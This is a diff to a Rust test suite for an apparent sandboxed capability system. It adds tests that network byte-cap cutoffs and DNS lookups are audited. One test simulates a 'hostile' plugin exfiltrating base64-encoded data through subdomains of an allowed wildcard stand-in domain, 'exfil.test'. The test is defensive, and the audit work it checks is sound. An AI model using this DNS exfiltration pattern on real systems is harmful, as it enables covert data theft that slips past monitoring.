@@ -443,6 +443,56 @@ async fn a_huge_response_is_cut_at_the_cap() {
     );
     let bytes = last_call(&lab).egress_bytes().unwrap();
     assert!(bytes <= 1 << 20 && bytes > 0, "{bytes}");
+    // Issue 9, finding 5: the cut is audited as a limit of the network capability, not only
+    // as a call that went fine.
+    let limits: Vec<Record> = lab
+        .audit
+        .records()
+        .into_iter()
+        .filter(|r| r.event() == Event::Limit && r.capability() == Some("network"))
+        .collect();
+    assert_eq!(limits.len(), 1, "{limits:?}");
+    assert_eq!(
+        limits[0].target(),
+        Some(format!("http://api.acme.test:{port}").as_str())
+    );
+    assert!(
+        limits[0]
+            .message()
+            .unwrap_or("")
+            .contains("max_response_bytes (1048576 bytes)"),
+        "{:?}",
+        limits[0]
+    );
+}
+
+/// Issue 9, finding 5: an allowed request whose name does not resolve left no record at all,
+/// so a wildcard entry allowed unaudited lookups of `<data>.allowed.test`. Every lookup is now
+/// a recorded use of the network capability (`dns:NAME`), answered or not.
+#[tokio::test(flavor = "multi_thread")]
+async fn every_lookup_of_an_allowed_name_is_audited_even_when_it_fails() {
+    let resolver = FakeResolver::new(&[]);
+    let lab = Lab::with_resolver(allow_loopback(), Some(resolver.clone()));
+    let id = lab.load_granted("hostile", network(&["*.exfil.test"], &[80]), &Grant::All);
+    let out = egress(&lab, &id, "http://c2VjcmV0LWRhdGE.exfil.test/").await;
+    assert!(out.starts_with("egress=err:"), "{out}");
+    assert_eq!(resolver.calls(), 1);
+    let lookups: Vec<Record> = lab
+        .audit
+        .records()
+        .into_iter()
+        .filter(|r| {
+            r.event() == Event::Grant
+                && r.capability() == Some("network")
+                && r.target()
+                    == Some(
+                        "dns:c2vjcmv0lwrhdgE.exfil.test"
+                            .to_ascii_lowercase()
+                            .as_str(),
+                    )
+        })
+        .collect();
+    assert_eq!(lookups.len(), 1, "{:?}", lab.audit.records());
 }
 
 #[tokio::test(flavor = "multi_thread")]
